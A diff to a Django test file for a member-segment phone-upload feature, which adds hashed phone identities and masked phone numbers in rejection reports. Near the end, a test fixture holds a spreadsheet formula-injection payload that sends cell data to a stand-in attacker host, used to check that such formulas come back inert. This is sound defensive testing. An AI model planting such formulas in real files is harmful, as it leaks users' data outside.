@@ -34,6 +34,7 @@ from members.services.segments import (
     segment_members,
 )
 from scrm.core.models import AuditEvent
+from scrm.core.pii import phone_digest
 from tests.conftest import Org
 from tests.members.factories import MemberFactory
 
@@ -58,7 +59,9 @@ def media(settings: Any, tmp_path: Path) -> Path:
 def people(org: Org) -> dict[str, Member]:
     """Members known by a phone identity, a unionid, an openid and a card number."""
     phone_a1: Member = MemberFactory.create(name="孙一", home_store=org.a1, phone="+8613811112222")
-    Identity.objects.create(member=phone_a1, kind=IdentityKind.PHONE, value="+8613811112222")
+    Identity.objects.create(
+        member=phone_a1, kind=IdentityKind.PHONE, value=phone_digest("+8613811112222")
+    )
     card_a1: Member = MemberFactory.create(name="周二", home_store=org.a1)
     Identity.objects.create(member=card_a1, kind=IdentityKind.POS_CARD, value="C0001")
     Identity.objects.create(member=card_a1, kind=IdentityKind.UNIONID, value="oUnion0001")
@@ -149,7 +152,7 @@ def test_hq_uploads_utf8_phones_in_any_form_counts_exact_and_report(
             ["12345"],  # row 6: not a phone
             ["13999999999"],  # row 7: nobody
             [""],  # a blank line is not a row
-            [org.member_b1.phone],  # row 9: another region's member; HQ sees everyone
+            [org.member_b1.reveal_phone()],  # row 9: another region's member; HQ sees everyone
             ["（+86）138 0000 1234"],  # row 10: full-width brackets, again a duplicate
         ]
     )
@@ -193,11 +196,12 @@ def test_hq_uploads_utf8_phones_in_any_form_counts_exact_and_report(
     assert 'data-testid="count-invalid">1<' in body
     assert rejected_csv(en, segment) == [
         ["Row", "Value", "Reason"],
-        ["3", "+86 138-0000-1234", "Duplicate of row 2 (counted once)."],
-        ["5", "0086-13811112222", "Duplicate of row 4 (counted once)."],
+        # Phones are reported masked, like every phone in a page or file.
+        ["3", "*******1234", "Duplicate of row 2 (counted once)."],
+        ["5", "*******2222", "Duplicate of row 4 (counted once)."],
         ["6", "12345", "Not a mobile number."],
-        ["7", "13999999999", "No member you can see matches it."],
-        ["10", "（+86）138 0000 1234", "Duplicate of row 2 (counted once)."],
+        ["7", "*******9999", "No member you can see matches it."],
+        ["10", "*******1234", "Duplicate of row 2 (counted once)."],
     ]
 
 
@@ -561,7 +565,7 @@ def test_nothing_matched_shows_the_counts_and_writes_nothing(
 ) -> None:
     en.force_login(org.store_manager_a1)
     content = csv_bytes(
-        [["手机号"], [org.member_b1.phone], ["13999999999"], ["13999999999"], ["bad"]]
+        [["手机号"], [org.member_b1.reveal_phone()], ["13999999999"], ["13999999999"], ["bad"]]
     )
     response = upload(en, content, store=str(org.a1.pk))
     text = refused(response)
@@ -574,9 +578,9 @@ def test_nothing_matched_shows_the_counts_and_writes_nothing(
     assert 'data-testid="count-invalid">1<' in body
     unmatched = response.context["unmatched"]
     assert [(r.row, r.value, r.code) for r in unmatched.rejected] == [
-        (2, org.member_b1.phone, "not_found"),
-        (3, "13999999999", "not_found"),
-        (4, "13999999999", "duplicate"),
+        (2, org.member_b1.masked_phone, "not_found"),
+        (3, "*******9999", "not_found"),
+        (4, "*******9999", "duplicate"),
         (5, "bad", "invalid_phone"),
     ]
     assert_nothing_written(media)
@@ -637,11 +641,18 @@ def test_matching_is_set_based(
 
 
 def test_200000_rows_take_seconds(en: Client, org: Org, media: Path) -> None:
+    phones = [f"+86137{n:08d}" for n in range(2_000)]
     members = Member.objects.bulk_create(
-        [Member(name=f"m{n}", phone=f"+86137{n:08d}", home_store=org.a1) for n in range(2_000)]
+        [
+            MemberFactory.build(name=f"m{n}", phone=phone, home_store=org.a1)
+            for n, phone in enumerate(phones)
+        ]
     )
     Identity.objects.bulk_create(
-        [Identity(member=m, kind=IdentityKind.PHONE, value=m.phone) for m in members]
+        [
+            Identity(member=m, kind=IdentityKind.PHONE, value=phone_digest(phone))
+            for m, phone in zip(members, phones, strict=True)
+        ]
     )
     lines = ["手机号", *[f"137{n:08d}" for n in range(200_000 - 1)], "13700000000"]
     content = ("\n".join(lines) + "\n").encode()
@@ -686,7 +697,7 @@ def test_a_formula_in_the_file_comes_back_inert_in_the_rejected_rows(
 ) -> None:
     client.force_login(org.hq_operator)
     formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
-    content = csv_bytes([["手机号"], [org.member_b1.phone], [formula], ["@SUM(1+1)"]])
+    content = csv_bytes([["手机号"], [org.member_b1.reveal_phone()], [formula], ["@SUM(1+1)"]])
     assert upload(client, content).status_code == 302
     segment = Segment.objects.get()
     values = [row[1] for row in rejected_csv(client, segment)[1:]]
